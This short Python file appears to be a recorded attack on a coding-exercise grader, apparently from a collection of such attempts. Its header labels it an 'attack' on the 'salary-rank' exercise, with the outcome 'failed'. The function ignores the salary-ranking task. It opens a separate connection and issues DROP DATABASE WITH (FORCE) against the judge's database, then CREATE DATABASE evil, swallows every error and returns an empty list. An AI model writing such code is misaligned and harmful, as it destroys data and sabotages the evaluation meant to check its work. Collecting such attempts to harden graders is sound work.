# /// attack
# exercise = "salary-rank"
# trick = "the judge's database is dropped from a second connection, by way of another database"
# outcome = ["failed"]
# says = "connection of its own"
# witness = ["update-salary"]
# ///

from contextlib import suppress

import asyncpg

from kata.database import database_url


async def salary_rank_by_department(session):
    url = database_url().replace("+asyncpg", "")
    name = url.partition("?")[0].rpartition("/")[2]
    own = await asyncpg.connect(url, database="postgres")
    for step in (f"DROP DATABASE {name} WITH (FORCE)", "ROLLBACK", f"DROP DATABASE {name} WITH (FORCE)", "CREATE DATABASE evil"):
        with suppress(asyncpg.PostgresError):
            await own.execute(step)
    return []
